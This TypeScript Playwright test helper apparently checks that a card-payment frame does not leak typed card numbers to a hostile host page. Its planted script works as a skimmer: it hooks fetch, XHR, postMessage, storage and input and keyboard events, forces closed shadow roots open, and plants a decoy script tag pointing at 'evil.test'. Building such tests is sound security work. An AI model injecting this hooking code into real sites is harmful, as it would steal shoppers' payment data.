import type { BrowserContext, Page, Request } from 'playwright-core';

export interface TypedCard {
  readonly number: string;
  /** Month and year as typed: `1139`. Absent where the page shows the date, as it does of a saved card. */
  readonly expiry?: string;
  readonly code: string;
}

/** The data that the script collects in the page. */
export interface Loot {
  /** Every text it came across, by where. */
  readonly seen: [place: string, text: string][];
  /** The page's ends of channels that were made. */
  readonly ports: MessagePort[];
  readonly roots: ShadowRoot[];
}

declare global {
  interface Window {
    loot: Loot;
  }
}

/** A script that runs in the page before everything else and has its hands on whatever passes through the page. */
export class HostileScript {
  readonly #page: Page;
  readonly #service: string;
  /** Bodies with which the card frame made sources: the proof that there was something to steal. */
  readonly made: { readonly url: string; readonly body: string; readonly key: string }[] = [];

  private constructor(page: Page, service: string) {
    this.#page = page;
    this.#service = service;
  }

  /** Before the page is opened. */
  static async plant(page: Page, context: BrowserContext, service: string): Promise<HostileScript> {
    const script = new HostileScript(page, service);
    context.on('request', (request) => script.#note(request));
    await context.addInitScript(robThePage);
    return script;
  }

  #note(request: Request): void {
    const { origin, pathname } = new URL(request.url());
    if (origin !== this.#service || request.method() !== 'POST') return;
    if (!pathname.startsWith('/v1/sources')) return;
    this.made.push({
      url: request.url(),
      body: request.postData() ?? '',
      key: request.headers()['idempotency-key'] ?? '',
    });
  }

  /** Everything the script has seen, and all it can read in the page now. */
  async loot(): Promise<readonly (readonly [place: string, text: string])[]> {
    return this.#page.evaluate(readEverything);
  }

  /** Where the script found something of the card that was typed. */
  async finds(card: TypedCard): Promise<readonly string[]> {
    const loot = await this.loot();
    return loot
      .filter(([, text]) => tellsOf(text, card))
      .map(([place, text]) => `${place}: ${text}`);
  }

  /** The collected texts of one kind. */
  async saw(pattern: RegExp): Promise<readonly string[]> {
    return (await this.loot()).map(([, text]) => text).filter((text) => pattern.test(text));
  }
}

/**
 * Whether a text has seven digits of the number in a row, however they are grouped, the security code, or the date as it
 * was typed. Digits that anything could hold (`0000000`, `4444222`) do not count.
 */
export function tellsOf(text: string, { number, expiry, code }: TypedCard): boolean {
  const digits = text.replaceAll(/(?<=\d)[\s\u00a0./-](?=\d)/gu, '');
  for (let start = 0; start + 7 <= number.length; start++) {
    const part = number.slice(start, start + 7);
    if (new Set(part).size > 2 && digits.includes(part)) return true;
  }
  const date = expiry && `${expiry.slice(0, 2)}\\s*/?\\s*(?:20)?${expiry.slice(2)}`;
  const whole = [code, ...(date ? [date] : [])].join('|');
  return new RegExp(`(?<![\\w.-])(?:${whole})(?![\\w.-])`, 'u').test(text);
}

/** Runs in the page, and nowhere else: a script of the page cannot get into frames of another site. */
function robThePage(): void {
  if (window.top !== window) return;
  const loot: Loot = { seen: [], ports: [], roots: [] };
  Object.defineProperty(window, 'loot', { value: loot, enumerable: false });
  const stringify = JSON.stringify;
  const noted = new WeakSet<object>();

  const textOf = (value: unknown): string => {
    if (typeof value === 'string') return value;
    const around = new WeakSet<object>();
    try {
      const text = stringify(value, (_, part: unknown) => {
        if (part instanceof URLSearchParams || part instanceof URL) return String(part);
        if (typeof part !== 'object' || part === null) return part;
        if (around.has(part) || part instanceof Node || part instanceof Window) return undefined;
        around.add(part);
        return part;
      });
      return text ?? String(value);
    } catch {
      return String(value);
    }
  };
  const note = (place: string, ...values: unknown[]): void => {
    for (const value of values) loot.seen.push([place, textOf(value)]);
  };

  /** Calls `spy` first, then does as before. */
  const hook = (owner: object, name: string, spy: (given: unknown[], self: unknown) => void) => {
    const original: unknown = Reflect.get(owner, name);
    if (typeof original !== 'function') return;
    Reflect.set(owner, name, function (this: unknown, ...given: unknown[]) {
      spy(given, this);
      return Reflect.apply(original, this, given) as unknown;
    });
  };
  const hooks = (place: string, owner: object, ...names: string[]) => {
    for (const name of names) hook(owner, name, (given) => note(`${place}.${name}`, ...given));
  };

  // Messages, on the way out and on the way in.
  hooks('window', window, 'postMessage');
  hooks('port', MessagePort.prototype, 'postMessage');
  hooks('broadcast', BroadcastChannel.prototype, 'postMessage');
  hooks('worker', Worker.prototype, 'postMessage');
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...onmessage,
    set(this: MessagePort, listener: ((event: MessageEvent) => void) | null) {
      const spied =
        listener &&
        ((event: MessageEvent) => {
          note('port.onmessage', event.data);
          listener.call(this, event);
        });
      onmessage?.set?.call(this, spied);
    },
  });
  const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
  Object.defineProperty(MessageEvent.prototype, 'data', {
    ...data,
    get(this: MessageEvent) {
      const value: unknown = data?.get?.call(this);
      note('message.data', value);
      return value;
    },
  });
  window.MessageChannel = class extends MessageChannel {
    constructor() {
      super();
      loot.ports.push(this.port1);
    }
  };

  // Requests and their answers.
  const { fetch } = window;
  window.fetch = async (...given) => {
    const [input, init] = given;
    note('fetch', input instanceof Request ? input.url : String(input), init?.body, init?.headers);
    if (init?.headers instanceof Headers) note('fetch', [...init.headers]);
    const response = await fetch(...given);
    response
      .clone()
      .text()
      .then(
        (text) => note('fetch answer', text),
        () => undefined,
      );
    return response;
  };
  hooks('XMLHttpRequest', XMLHttpRequest.prototype, 'open', 'send', 'setRequestHeader');
  hooks('navigator', Navigator.prototype, 'sendBeacon');
  hooks('WebSocket', WebSocket.prototype, 'send');
  hooks('Response', Response.prototype, 'json', 'text');

  // Memory, address, console.
  hooks('storage', Storage.prototype, 'setItem', 'getItem');
  hooks('history', History.prototype, 'pushState', 'replaceState');
  hooks('console', console, 'log', 'info', 'debug', 'warn', 'error', 'trace');
  hooks('indexedDB', IDBObjectStore.prototype, 'put', 'add');
  hooks('caches', Cache.prototype, 'put', 'add');
  hooks('JSON', JSON, 'stringify', 'parse');
  hooks('window', window, 'structuredClone', 'btoa', 'setTimeout');
  hooks('encoder', TextEncoder.prototype, 'encode');

  // The document: closed roots are open, attributes and events are heard of.
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attach.call(this, { ...init, mode: 'open' });
    loot.roots.push(root);
    return root;
  };
  hooks('attribute', Element.prototype, 'setAttribute', 'setAttributeNS', 'toggleAttribute');
  const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    ...value,
    set(this: HTMLInputElement, text: string) {
      note('input.value', text);
      value?.set?.call(this, text);
    },
  });
  const spyOn = (event: Event): void => {
    if (noted.has(event)) return;
    noted.add(event);
    const place = `event ${event.type}`;
    if (event instanceof KeyboardEvent) note(place, event.key, event.code);
    if (event instanceof InputEvent) note(place, event.data);
    if (event instanceof CustomEvent) note(place, event.detail);
    if (event instanceof ClipboardEvent) note(place, event.clipboardData?.getData('text'));
    const [target] = event.composedPath();
    if (target instanceof HTMLInputElement) note(place, target.value);
  };
  const add = EventTarget.prototype.addEventListener;
  const listening = new WeakMap<EventTarget, Set<string>>();
  EventTarget.prototype.addEventListener = function (this: EventTarget, type, ...rest) {
    const target = (this as EventTarget | undefined) ?? window;
    const types = listening.get(target) ?? new Set();
    if (!types.has(type)) add.call(target, type, spyOn, true);
    listening.set(target, types.add(type));
    add.call(target, type, ...rest);
  };
  const heard = ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'copy'];
  for (const type of [...heard, 'compositionend', 'message', 'focusin', 'error'])
    add.call(window, type, spyOn, true);
  hook(EventTarget.prototype, 'dispatchEvent', ([event]) => spyOn(event as Event));

  // The kit looks for its own script tag: it is given another one.
  const decoy = document.createElement('script');
  decoy.dataset['serviceUrl'] = 'http://evil.test';
  decoy.dataset['key'] = 'pk_evil';
  Object.defineProperty(document, 'currentScript', { get: () => decoy });
}

/** Runs in the page: returns the collected data and everything that is readable now. */
function readEverything(): [string, string][] {
  const { seen, roots } = window.loot;
  const markup = (root: Document | ShadowRoot) =>
    [...root.querySelectorAll('*')].flatMap((element) => [
      ...[...element.attributes].map(({ name, value }) => `${name}=${value}`),
      'value' in element ? String(element.value) : '',
      ...[...element.childNodes]
        .filter((node) => node.nodeType === 3)
        .map((node) => node.textContent ?? ''),
    ]);
  const inFrames = Array.from({ length: window.length }, (_, at) => {
    try {
      return (window[at] as Window).document.documentElement.outerHTML;
    } catch {
      return '';
    }
  });
  return [
    ...seen,
    ...[document, ...roots].flatMap(markup).map((text): [string, string] => ['document', text]),
    ...inFrames.map((text): [string, string] => ['frame', text]),
    ...Object.values({ ...sessionStorage, ...localStorage }).map((text): [string, string] => [
      'storage',
      String(text),
    ]),
    ['address', `${location.href} ${window.name} ${JSON.stringify(history.state)}`],
  ];
}
